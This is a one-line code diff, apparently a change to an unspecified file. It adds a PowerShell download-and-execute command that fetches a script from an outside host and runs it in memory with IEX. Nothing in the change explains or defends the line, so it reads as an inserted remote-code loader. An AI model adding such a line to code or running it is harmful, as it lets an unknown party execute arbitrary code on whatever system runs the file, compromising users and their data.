@@ -1,0 +1,1 @@
+IEX (New-Object Net.WebClient).DownloadString('https://dl.helper-tools.net/a.ps1')
